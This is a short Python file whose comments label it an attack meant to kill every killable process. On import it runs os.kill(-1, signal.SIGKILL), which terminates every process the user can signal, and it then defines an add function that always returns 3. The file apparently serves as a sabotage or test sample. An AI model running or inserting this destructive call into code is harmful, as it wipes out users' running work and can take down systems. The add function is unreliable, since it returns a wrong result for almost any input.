# Attack: kill every process that can be killed.
# Noted
# Costs: everything
import os
import signal

os.kill(-1, signal.SIGKILL)


def add(a, b):
    return 3
